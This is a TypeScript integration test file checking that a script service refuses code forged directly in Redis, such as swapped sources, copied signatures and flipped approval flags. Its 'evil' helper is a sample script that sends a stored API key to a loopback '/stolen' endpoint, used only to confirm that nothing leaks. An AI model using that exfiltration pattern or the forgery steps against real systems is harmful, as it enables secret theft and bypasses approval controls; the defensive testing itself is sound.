import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { scriptWorkerDeps } from '../../src/cli/compose.js';
import { hashSource } from '../../src/contracts/script-hashes.js';
import { keys } from '../../src/store/keys.js';
import {
  startScriptRunWorker,
  type RunningScriptWorker,
} from '../../src/workers/script-runs/worker.js';
import { startServer, type LocalServer } from '../net/local-server.js';
import { createScriptsHarness, type ScriptsHarness } from '../scripts/harness.js';

const KEY = 'sk-integrity-5c1d9e0a7b3f';

/**
 * Redis is trusted with data, not with authority: whoever can write to it (another container on
 * its network) must not get code run that nobody approved. Each attack below writes Redis the way
 * such a writer would, then asks for a run through the API with a real worker, and a loopback
 * server records whether the forged code ever sent anything.
 */
describe('approval integrity against a Redis writer', () => {
  let h: ScriptsHarness;
  let worker: RunningScriptWorker;
  let sink: LocalServer;
  const hits: string[] = [];

  beforeAll(async () => {
    sink = await startServer((req, res) => {
      hits.push(`${req.url} ${req.headers.authorization ?? ''}`);
      res.end('ok');
    });
    h = await createScriptsHarness({ 'egress.allow': ['127.0.0.1'] });
    await h.services.secrets.set('API_KEY', KEY);
    await h.services.redaction.refresh();
    worker = await startScriptRunWorker(h.ctx, scriptWorkerDeps(h.services));
  });
  afterAll(async () => {
    await worker?.close();
    await h?.close();
    await sink?.close();
  });

  const redis = () => h.ctx.redis;
  const evil = () =>
    `# @secrets: API_KEY -> 127.0.0.1:${sink.port}\ndef main():\n    http.get("http://127.0.0.1:${sink.port}/stolen", headers = {"Authorization": secrets.get("API_KEY")})\n    return {"ran": "evil"}\n`;
  const test = (name: string) => h.call('POST', `/api/scripts/${name}/test`, { args: {} });

  async function approvedScript(name: string, source: string) {
    expect((await h.call('POST', '/api/scripts', { name, source })).statusCode).toBe(201);
    expect((await h.call('POST', `/api/scripts/${name}/approve`)).statusCode).toBe(200);
  }

  /** The run is refused as not approved, nothing was sent, and the refusal was logged for audit. */
  async function expectRefused(name: string, mismatch: string) {
    const warn = vi.spyOn(h.ctx.log, 'warn');
    const before = hits.length;
    const res = await test(name);
    expect(res.statusCode, res.body).toBe(403);
    expect(res.json()).toMatchObject({ error: 'script_not_approved' });
    expect(hits.length).toBe(before);
    expect(warn).toHaveBeenCalledWith(
      expect.objectContaining({ audit: true, script: name, mismatch }),
      expect.any(String),
    );
    warn.mockRestore();
  }

  it('runs what the administrator approved through the API', async () => {
    await approvedScript('good.star', 'def main():\n    return {"ok": True}\n');
    const res = await test('good.star');
    expect(res.json()).toMatchObject({ success: true, result: { ok: true } });
  });

  it('refuses a source swapped under an approved hash', async () => {
    await approvedScript('swap.star', 'def main():\n    return {"ok": True}\n');
    await redis().hset(keys.script('swap.star'), 'source', evil());
    await expectRefused('swap.star', 'source_hash');
  });

  it('refuses a record forged as approved, signature and all copied from another script', async () => {
    await approvedScript('donor.star', 'def main():\n    return 1\n');
    const donor = await redis().hgetall(keys.script('donor.star'));
    const source = evil();
    expect((await h.call('POST', '/api/scripts', { name: 'forged.star', source })).statusCode).toBe(
      201,
    );
    await redis().hset(keys.script('forged.star'), {
      status: 'approved',
      approved_hash: hashSource(source),
      approved_by: 'admin',
      approved_at: donor.approved_at!,
      approval_sig: donor.approval_sig!,
    });
    await expectRefused('forged.star', 'bad_signature');
  });

  it('refuses a pending version flipped to approved', async () => {
    await approvedScript('flip.star', 'def main():\n    return 1\n');
    const source = evil();
    expect((await h.call('PUT', '/api/scripts/flip.star', { source })).statusCode).toBe(200);
    await redis().hset(keys.script('flip.star'), {
      status: 'approved',
      approved_hash: hashSource(source),
      approved_by: 'admin',
      approved_at: new Date().toISOString(),
    });
    await expectRefused('flip.star', 'missing_signature');
  });

  it('keeps a secret to the destinations of the approved text, whatever the stored metadata says', async () => {
    // Approved: the key may go to port 1 only; the URL comes from the caller.
    const source =
      '# @secrets: API_KEY -> 127.0.0.1:1\ndef main():\n    return http.get(args["url"], headers = {"Authorization": secrets.get("API_KEY")})["status"]\n';
    await approvedScript('widen.star', source);
    const widened = {
      description: '',
      author: '',
      version: '',
      secrets: ['API_KEY'],
      secret_destinations: { API_KEY: [`127.0.0.1:${sink.port}`] },
    };
    await redis().hset(keys.script('widen.star'), 'metadata', JSON.stringify(widened));
    const before = hits.length;
    const res = await h.call('POST', '/api/scripts/widen.star/test', {
      args: { url: `http://127.0.0.1:${sink.port}/widened` },
    });
    expect(res.json()).toMatchObject({ success: false });
    expect(hits.length).toBe(before);
  });

  it('runs a forged script again only after the administrator approves it again', async () => {
    await approvedScript('again.star', 'def main():\n    return {"v": 1}\n');
    await redis().hdel(keys.script('again.star'), 'approval_sig');
    expect((await test('again.star')).statusCode).toBe(403);
    // Approving what looks approved already replaces the approval that does not verify.
    expect((await h.call('POST', '/api/scripts/again.star/approve')).statusCode).toBe(200);
    expect((await test('again.star')).json()).toMatchObject({ success: true, result: { v: 1 } });
  });
});
